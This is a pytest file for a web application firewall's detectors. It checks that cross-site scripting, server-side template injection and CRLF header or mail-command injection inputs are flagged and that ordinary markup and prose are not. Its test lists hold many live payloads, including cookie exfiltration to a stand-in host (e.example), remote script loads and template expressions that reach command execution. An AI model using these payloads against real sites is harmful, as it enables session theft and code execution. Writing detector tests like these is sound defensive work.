"""Cross-site scripting by the place it lands in, and mark-up and prose that run nothing."""

from __future__ import annotations

import pytest

from garrison.waf.detectors import line_injection, templates, xss
from tests.waf.detectors.seen import lines, sees

ATTACKS = lines(
    r"""
    <script>steal()</script>
    <SCRIPT/x src=//e.example/x.js></SCRIPT>
    <scr<script>ipt>x()</script>
    <img src=q onerror=x()>
    <svg/onload=x()>
    <svg><animate onbegin=x() attributeName=y>
    <details/open/ontoggle=x()>
    <iframe src="java&#x0a;script:x()">
    <iframe srcdoc="hello">
    <a href=" javascript:x()">y</a>
    <form action=javascript:x()><input type=submit>
    <object data="data:text/html;base64,PGI+">
    <div style="width:expression(x())">
    <style>@import '//e.example/x.css'</style>
    <base href=//e.example/>
    <meta http-equiv=refresh content="0;url=//e.example">
    <x:script xmlns:x="http://www.w3.org/1999/xhtml">x()</x:script>
    "><b onmouseover=x()>
    " autofocus onfocus=x() y="
    ' onpointerenter='x()
    </textarea><b>
    javascript:alert(5)
    java%0dscript:alert(5)
    data:text/html,<b>
    ';alert(5);//
    "-prompt(5)-"
    alert?.(5)
    (confirm)(5)
    window["al"+"ert"](5)
    self[/*x*/"document"]["cookie"]
    [5].map(alert)
    document.cookie
    location='//e.example/'+document.cookie
    onerror=alert;throw 5
    eval(atob('YWxlcnQ='))
    String.fromCharCode(97,98)
    [][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]
    &lt;script&gt;x()&lt;/script&gt;
    %253Cscript%253Ex()
    %u003cscript%u003e
    \u003cimg src=q onerror=x()\u003e
    \x3csvg onload=x()\x3e
    +ADw-script+AD4-x()
    PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==
    ＜script＞x()
    require('child_process').exec('id')
    """
)

INNOCENT = lines(
    """
    I <b>love</b> it, <i>truly</i> <3
    <p>See <a href="https://example.com/a?b=c">this</a><br></p>
    <img src="https://cdn.example.com/a.png" alt="half = 50%">
    <ul><li>one</li></ul>
    <table><tr><td style="color: red">1</td></tr></table>
    alert me (when it is back)
    please confirm (or cancel) my order
    javascript: the good parts
    javascript: the good parts über alles
    JavaScript: an introduction
    a < b and c > d
    Vector<String> v = new ArrayList<>();
    "this" and 'that' > those
    top [1] choice
    write the document. Domain is example.com
    on time = on budget
    onboarding=done
    {{ name }} is a placeholder
    ${price} each
    data:image/png;base64,iVBORw0KGgoAAAANSUhEUg
    javascript:void(0)
    bob <bob@example.com>
    query { a(first: 3, orderBy: {field: X}) { id } }
    the constructor of bridges
    script writing, style and form
    """
)

TEMPLATES = lines(
    r"""
    {{8*8}}
    ${8*8}
    <%= 8*8 %>
    #{8*8}
    {{ ''.__class__.__mro__[1].__subclasses__() }}
    {{config.items()}}
    {% import os %}
    ${T(java.lang.Runtime).getRuntime()}
    <#assign x="freemarker.template.utility.Execute"?new()>
    #set($x=1)
    {php}phpinfo();{/php}
    @(8*8)
    """
)

LINES = lines(
    """
    x%0d%0aSet-Cookie: a=b
    x%0AHTTP/1.1 200 OK
    x%0d%0aRCPT TO: <a@b.example>
    x%0AV100 CAPABILITY
    Name%0aBcc: a@b.example
    """
)


@pytest.mark.parametrize("value", ATTACKS)
def test_what_runs_in_a_page_is_found(value: str) -> None:
    assert sees(value, xss.DETECTOR)


@pytest.mark.parametrize("value", INNOCENT)
def test_mark_up_and_prose_that_run_nothing_are_left_alone(value: str) -> None:
    assert not sees(value, xss.DETECTOR, templates.DETECTOR, line_injection.DETECTOR)


@pytest.mark.parametrize("value", TEMPLATES)
def test_expressions_for_a_template_engine_are_found(value: str) -> None:
    assert sees(value, templates.DETECTOR)


@pytest.mark.parametrize("value", LINES)
def test_lines_that_begin_a_header_or_a_mail_command_are_found(value: str) -> None:
    assert sees(value, line_injection.DETECTOR)


def test_a_letter_of_several_lines_is_no_header() -> None:
    assert not sees("Dear Bob,\nthank you for the fish: it was good.\nRegards", line_injection.DETECTOR)


def test_a_picture_is_no_script() -> None:
    picture = bytes(range(256)) * 4 + b"<script>x()</script>"
    assert not sees(picture, xss.DETECTOR)
